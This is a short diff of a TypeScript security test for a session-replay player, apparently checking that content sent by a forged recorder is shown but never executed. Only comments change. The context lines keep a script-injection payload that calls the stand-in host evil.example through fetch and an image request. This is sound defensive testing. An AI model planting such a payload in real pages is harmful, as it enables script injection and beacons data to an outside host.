@@ -4,7 +4,7 @@ import { Client, pushed } from "../apps/server/test/clients.ts";
 import { Desk } from "./desk.ts";
 import { expect, test } from "./parley.ts";
 
-/** Whoever pretends to be a recorder can send anything. An agent who watches it sees it, and that is all. */
+/** A forged recorder can send any data. An agent who watches sees it, but nothing runs. */
 
 const RAN = "top.ran=1;parent.ran=1;ran=1;fetch('http://evil.example/ran');new Image().src='http://evil.example/ran'";
 const PAGE = `<script>${RAN}</script>`;
@@ -147,7 +147,7 @@ const playerOn = (page: Page) => page.frameLocator('iframe[title="The visitor\'s
 /** As a page does that is left. */
 const finish = (url: string, id: string) => fetch(`${url}/api/browser_sessions/${id}/finish`, { method: "POST" });
 
-/** What a script on the player's page gets of the agent's, or why it gets nothing. */
+/** The agent's data that a script on the player's page can read, or the error that it gets. */
 const reach = (url: string, token: string) => `(async () => {
   const attempt = async (get) => {
     try { return String(await get()); } catch (error) { return "refused"; }
